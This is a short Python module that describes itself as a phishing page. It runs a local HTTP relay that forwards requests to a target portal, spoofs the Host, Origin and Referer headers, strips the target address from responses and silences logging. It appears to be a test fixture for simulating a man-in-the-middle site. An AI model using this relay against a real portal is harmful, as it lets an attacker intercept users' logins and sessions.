"""A phishing page: it shows the portal under another address and hands everything on, both ways, at once."""

from __future__ import annotations

import http.client
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any
from urllib.parse import urlsplit

_NOT_HANDED_ON = {"transfer-encoding", "connection", "content-length", "content-encoding"}


@contextmanager
def relay(target: str) -> Iterator[int]:
    """The port, on every local name, where the site at `target` is shown."""
    real = urlsplit(target)

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self._hand_on(b"")

        def do_POST(self) -> None:
            self._hand_on(self.rfile.read(int(self.headers.get("Content-Length", "0"))))

        def log_message(self, format: str, *args: Any) -> None:
            """Stay silent."""

        def _hand_on(self, body: bytes) -> None:
            headers = {name: value for name, value in self.headers.items() if name.lower() != "accept-encoding"}
            headers |= {"Host": real.netloc, "Origin": target, "Referer": f"{target}{self.path}"}
            connection = http.client.HTTPConnection(real.netloc, timeout=30)
            connection.request(self.command, self.path, body, headers)
            answer = connection.getresponse()
            content = answer.read()
            self.send_response(answer.status)
            for name, value in answer.getheaders():
                if name.lower() not in _NOT_HANDED_ON:
                    self.send_header(name, value.replace(target, ""))
            self.send_header("Content-Length", str(len(content)))
            self.end_headers()
            self.wfile.write(content)
            connection.close()

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    server.daemon_threads = True
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield server.server_port
    finally:
        server.shutdown()
        server.server_close()
        thread.join()
